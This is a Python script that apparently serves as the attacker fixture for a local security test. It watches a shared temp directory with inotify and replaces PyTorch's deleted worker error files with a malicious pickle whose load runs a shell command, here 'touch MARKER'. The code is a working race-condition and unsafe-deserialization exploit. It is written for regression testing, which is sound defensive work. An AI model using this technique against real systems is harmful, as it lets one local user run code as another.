"""The attacker of tests/test_security_local.py: another local user watching the shared temporary
directory (inotify, stdlib only) for torch's worker error files.

    python3 tmp_watcher.py DIR MARKER

torch's process spawner creates ``pytorch-errorfile-*.pickle`` in the temporary directory,
unlinks it, and unpickles whatever is at that path if the worker fails. When such a file is
created and deleted in DIR, this re-creates it with a pickle whose load runs ``touch MARKER``.
Prints one line per name it saw, then ``planted NAME`` for each payload written.
"""

import ctypes
import os
import pickle
import struct
import sys

IN_CREATE, IN_DELETE = 0x100, 0x200


class Payload:
    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def main() -> None:
    watch_dir, marker = sys.argv[1], sys.argv[2]
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init()
    if fd < 0 or libc.inotify_add_watch(fd, watch_dir.encode(), IN_CREATE | IN_DELETE) < 0:
        sys.exit(f"inotify failed: errno {ctypes.get_errno()}")
    print("watching", flush=True)
    while True:
        buf = os.read(fd, 65536)
        i = 0
        while i < len(buf):
            _, mask, _, n = struct.unpack_from("iIII", buf, i)
            name = buf[i + 16:i + 16 + n].rstrip(b"\0").decode()
            i += 16 + n
            if not name.startswith("pytorch-errorfile-"):
                continue
            print("saw", name, flush=True)
            if mask & IN_DELETE:
                path = os.path.join(watch_dir, name)
                with open(path, "wb") as f:
                    pickle.dump(Payload(marker), f)
                os.chmod(path, 0o644)
                print("planted", name, flush=True)


if __name__ == "__main__":
    main()
